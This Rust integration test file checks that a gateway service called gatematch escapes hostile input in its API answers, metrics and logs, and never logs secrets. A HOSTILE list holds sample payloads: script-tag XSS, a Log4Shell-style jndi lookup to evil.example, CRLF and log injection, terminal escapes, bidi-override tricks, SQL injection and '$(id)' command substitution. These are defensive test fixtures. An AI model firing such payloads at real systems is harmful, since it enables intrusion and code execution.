//! AU-04 and AU-05: what strangers write reaches nobody's terminal, and what is secret reaches no log.

use std::process::Stdio;

use gatematch_client_sim::admin::Admin;
use gatematch_client_sim::edge::{random, random_key, system_clock};
use gatematch_client_sim::gateway::Gateway;
use gatematch_client_sim::http::{Api, segment};
use gatematch_client_sim::misbehave::PRIVATE_PART;
use gatematch_client_sim::phone::{Phone, public_key_value};
use gatematch_domain::text::steers;
use gatematch_protocol::base64url;
use gatematch_protocol::challenge::ChallengeView;
use gatematch_protocol::gateway::GatewayCreated;
use gatematch_protocol::jws::Jws;
use gatematch_protocol::response::Decision;
use gatematch_protocol::secret::Secret;
use gatematch_tests::wire::json;
use gatematch_tests::{Site, program};
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::io::{AsyncBufReadExt as _, AsyncReadExt as _, BufReader};
use tokio::process::{Child, Command};

const HOSTILE: [&str; 8] = [
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "a\r\nSet-Cookie: b\r\n\r\n{\"level\":\"INFO\"}",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{0}\u{8}",
    "gpj.\u{202e}exe\u{2066}\u{200f}\u{61c}\u{2028}\u{2029}",
    "\"}],\"admin\":true,'; DROP TABLE users;--",
    "%s%n%x {{7*7}} $(id) `id`",
    "\u{feff}\u{fffd}\u{e000}\u{10ffff}",
];

fn assert_disarmed(value: &Value) {
    match value {
        Value::String(text) => assert!(!text.chars().any(steers), "{text:?}"),
        Value::Array(items) => items.iter().for_each(assert_disarmed),
        Value::Object(members) => {
            for (name, value) in members {
                assert!(!name.chars().any(steers), "{name:?}");
                assert_disarmed(value);
            }
        }
        _ => {}
    }
}

/// Writes `text` wherever something from outside can be written, and yields all that is answered. `serial` makes
/// names unique.
async fn write_everywhere(admin: &Admin, phone: &Phone, serial: usize, text: &str) -> Vec<Value> {
    let mut told = Vec::new();
    let user = format!("user-{serial}");
    let body = json!({"display_name": text, "groups": [text]});
    told.push(admin.call("PUT", &format!("/v1/users/{user}"), json(&body)).await.unwrap().json().unwrap());
    let body = json!({"name": text, "application": text, "can_display": true});
    let made: GatewayCreated = admin.call("POST", "/v1/gateways", json(&body)).await.unwrap().json().unwrap();
    told.push(serde_json::to_value(&made.gateway).unwrap());
    let gateway = Gateway::created(admin.api.clone(), phone.issuer(), &made, system_clock());
    let token = admin.create_enrollment(&user, None).await.unwrap().token;
    let body = json!({
        "enrollment_token": token.reveal(), "public_key": public_key_value(phone.key()), "name": text, "platform": text,
    });
    let registered = phone.call("POST", "/v1/devices", json(&body)).await.unwrap();
    assert_eq!(registered.status, 201, "{}", registered.text());
    told.push(phone.call("GET", "/v1/devices/self", None).await.unwrap().json().unwrap());

    let body = json!({"user": user, "client": {"name": text}, "context": {"program": text}});
    let view: ChallengeView = gateway.call("POST", "/v1/challenges", json(&body)).await.unwrap().json().unwrap();
    assert_eq!(view.status, "pending");
    let waiting: Value = phone.call("GET", "/v1/devices/self/challenges", None).await.unwrap().json().unwrap();
    let signed = waiting["items"][0]["challenge"].as_str().unwrap();
    told.push(Value::Object(Jws::parse(signed).unwrap().claims().clone()));
    gateway.cancel(view.id).await.unwrap();
    // A name that nobody has, in a body and in a path; words, ids and keys that are none.
    let unknown = format!("{text}{}", "x".repeat(200));
    for name in [text, &unknown] {
        let answer = gateway.call("POST", "/v1/challenges", json(&json!({"user": name}))).await.unwrap();
        let view: Value = answer.json().unwrap();
        assert_eq!(view["status"], "denied");
        assert!(view["user"].as_str().unwrap().chars().count() <= 128);
        told.push(view);
    }
    for (method, path, body) in [
        ("GET", format!("/v1/users/{}", segment(text)), None),
        ("PUT", format!("/v1/users/{}", segment(text)), json(&json!({}))),
        ("DELETE", format!("/v1/devices/{}", segment(text)), None),
        ("GET", format!("/v1/users?query={0}&cursor={0}&limit={0}", segment(text)), None),
        ("GET", format!("/v1/audit?after={0}&type={0}&user={0}", segment(text)), None),
        ("PUT", "/v1/users/alice".to_owned(), json(&json!({text: text}))),
        ("PUT", "/v1/users/alice".to_owned(), json(&json!({"status": text}))),
        ("POST", "/v1/enrollments".to_owned(), json(&json!({"user": text, "expires_in": text}))),
    ] {
        let answer = admin.call(method, &path, body).await.unwrap();
        assert!((400..500).contains(&answer.status), "{method} {path}: {}", answer.status);
        assert!(answer.header("content-type").unwrap().starts_with("application/problem+json"));
        told.push(serde_json::from_slice(&answer.body).unwrap());
    }
    told
}

#[tokio::test]
async fn au_05_what_strangers_write_is_disarmed_wherever_it_is_told() {
    let site = Site::start().await;
    for (serial, text) in HOSTILE.into_iter().enumerate() {
        let phone = site.blank_phone();
        for told in write_everywhere(&site.admin, &phone, serial, text).await {
            assert_disarmed(&told);
        }
    }
    for path in ["/v1/audit?limit=1000", "/v1/users?limit=1000", "/v1/gateways"] {
        let answer = site.admin.call("GET", path, None).await.unwrap();
        // One line, whatever stands in it; markup is data in JSON, and no browser may take it for more.
        assert!(!answer.text().chars().any(char::is_control), "{path}");
        assert_eq!(answer.header("content-type"), Some("application/json"));
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
        assert_disarmed(&answer.json().unwrap());
    }
    let metrics = site.api().call("GET", "/metrics", &[], None).await.unwrap().text();
    for text in HOSTILE {
        let first: String = text.chars().take(6).collect();
        assert!(!metrics.contains(&first), "{text:?} is in the metrics");
    }
    let odd = site.api().call("BREW<script>".replace(['<', '>'], "!").as_str(), "/v1/users", &[], None).await.unwrap();
    assert_eq!(odd.status, 405);
    assert!(!site.api().call("GET", "/metrics", &[], None).await.unwrap().text().contains("BREW"));
    // Markup stays what it was: it is told as data, not swallowed.
    let seen = site.admin.get_user("user-0").await.unwrap();
    assert_eq!(seen.display_name.as_deref(), Some(HOSTILE[0]));
}

/// The program `gatematch serve`, and all that it logs.
struct Served {
    dir: TempDir,
    child: Child,
    base: String,
    log: tokio::task::JoinHandle<String>,
}

impl Served {
    async fn start(format: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut child = gatematch(&dir, format)
            .args(["serve", "--json"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true)
            .spawn()
            .unwrap();
        let mut stderr = child.stderr.take().unwrap();
        let log = tokio::spawn(async move {
            let mut bytes = Vec::new();
            stderr.read_to_end(&mut bytes).await.unwrap();
            String::from_utf8(bytes).expect("the log is UTF-8")
        });
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        let up: Value = serde_json::from_str(&lines.next_line().await.unwrap().expect("it starts")).unwrap();
        Self { dir, child, base: up["issuer"].as_str().unwrap().to_owned(), log }
    }

    async fn admin(&self, format: &str) -> Admin {
        let mut command = gatematch(&self.dir, format);
        command.args(["admin-key", "create", "--role", "admin", "--name", "${jndi:ldap://x}", "--json"]);
        let made = command.output().await.unwrap();
        let key: Value = serde_json::from_slice(&made.stdout).unwrap();
        Admin::new(Api::new(&self.base).unwrap(), Secret::new(key["key"].as_str().unwrap()))
    }

    async fn end(mut self) -> String {
        self.child.start_kill().unwrap();
        self.child.wait().await.unwrap();
        self.log.await.unwrap()
    }
}

fn gatematch(dir: &TempDir, format: &str) -> Command {
    let mut command = Command::new(program("gatematch"));
    command.env("GATEMATCH_DATA_DIR", dir.path()).env("GATEMATCH_LISTEN", "127.0.0.1:0");
    command.env("GATEMATCH_ISSUER", "").env("GATEMATCH_LOG", "trace").env("GATEMATCH_LOG_FORMAT", format);
    command
}

/// Does everything that has a secret in it, and yields the secrets.
async fn handle_secrets(admin: &Admin, issuer: &str) -> Vec<String> {
    let api = admin.api.clone();
    let mut secrets = vec![admin.key.reveal().to_owned()];
    let body = json!({"name": "Oslo", "application": "RD", "can_display": true});
    let made: GatewayCreated = admin.call("POST", "/v1/gateways", json(&body)).await.unwrap().json().unwrap();
    secrets.push(made.key.reveal().to_owned());
    let gateway = Gateway::created(api.clone(), issuer, &made, system_clock());
    admin.call("PUT", "/v1/users/carol", None).await.unwrap().success().unwrap();
    let (used, open) =
        (admin.create_enrollment("carol", None).await.unwrap(), admin.create_enrollment("carol", None).await.unwrap());
    secrets.extend([used.token.reveal().to_owned(), open.token.reveal().to_owned()]);
    let phone = Phone::new(api.clone(), issuer, random_key(), system_clock());
    phone.enroll(used.token.reveal(), "Pixel").await.unwrap();
    phone.enroll(used.token.reveal(), "Pixel").await.unwrap_err();
    // Secrets in the wrong places: a private part, a key of the wrong kind, a body that is no JSON.
    let mut key = public_key_value(phone.key());
    key["d"] = json!(PRIVATE_PART);
    secrets.push(PRIVATE_PART.to_owned());
    let body = json!({"enrollment_token": open.token.reveal(), "public_key": key, "name": "Pixel"});
    assert_eq!(phone.call("POST", "/v1/devices", json(&body)).await.unwrap().status, 400);
    let broken = format!("{{\"enrollment_token\":\"{}\",\"public_key\":", open.token.reveal());
    assert_eq!(phone.call("POST", "/v1/devices", Some(broken.into_bytes())).await.unwrap().status, 400);
    let odd = format!("Bearer gma_{}", base64url::encode(random::<32>()));
    secrets.push(odd[7..].to_owned());
    assert_eq!(api.call("GET", "/v1/users", &[("authorization", &odd)], None).await.unwrap().status, 401);

    let body = json!({"user": "carol", "client": {"name": "PC"}});
    let view: ChallengeView = gateway.call("POST", "/v1/challenges", json(&body)).await.unwrap().json().unwrap();
    let signed = phone.waiting(0).await.unwrap().remove(0).challenge;
    let response = phone.response(&signed, Decision::Approve, view.number.as_deref(), None).unwrap();
    phone.post_response(&view.id.to_string(), &response).await.unwrap().success().unwrap();
    let redeemed = gateway.redeem(view.id, "r", 0).await.unwrap();
    secrets.extend([signed, response, redeemed.result.unwrap()]);
    let view: ChallengeView = gateway.call("POST", "/v1/challenges", json(&body)).await.unwrap().json().unwrap();
    gateway.passcode(view.id, "31415926").await.unwrap();
    secrets.push("31415926".to_owned());
    let endpoint = "https://fcm.googleapis.com/fcm/send/the-secret-of-the-subscription";
    let point = base64url::encode(random_key().public().to_sec1());
    let auth = base64url::encode(random::<16>());
    let push = json!({"endpoint": endpoint, "keys": {"p256dh": point, "auth": auth}});
    assert_eq!(phone.call("PUT", "/v1/devices/self/push", json(&push)).await.unwrap().status, 204);
    secrets.extend([endpoint.to_owned(), auth]);
    secrets
}

async fn log_of_a_hostile_day(format: &str) -> String {
    let served = Served::start(format).await;
    let admin = served.admin(format).await;
    let secrets = handle_secrets(&admin, &served.base).await;
    for (serial, text) in HOSTILE.into_iter().enumerate() {
        let phone = Phone::new(admin.api.clone(), &served.base, random_key(), system_clock());
        write_everywhere(&admin, &phone, serial, text).await;
    }
    let log = served.end().await;
    assert!(log.lines().count() > 100, "the log is not at the level trace");
    for secret in secrets {
        assert!(!log.contains(&secret), "{secret} is in the log");
    }
    log
}

#[tokio::test]
async fn au_04_and_au_05_the_log_is_one_json_object_a_line_and_tells_no_secret() {
    let log = log_of_a_hostile_day("json").await;
    let mut answered = 0;
    for line in log.lines() {
        let event: Value = serde_json::from_str(line).unwrap_or_else(|fault| panic!("{fault}: {line}"));
        assert!(event["level"].is_string(), "{line}");
        answered += usize::from(event["fields"]["message"] == "answered");
        assert!(!line.chars().any(char::is_control), "{line:?}");
    }
    assert!(answered > 100);
}

#[tokio::test]
async fn au_04_and_au_05_the_log_for_people_steers_no_terminal_and_tells_no_secret() {
    let log = log_of_a_hostile_day("text").await;
    for line in log.lines() {
        assert!(line.starts_with("20"), "a line that is no event: {line:?}");
        assert!(!line.chars().any(steers), "{line:?}");
    }
}
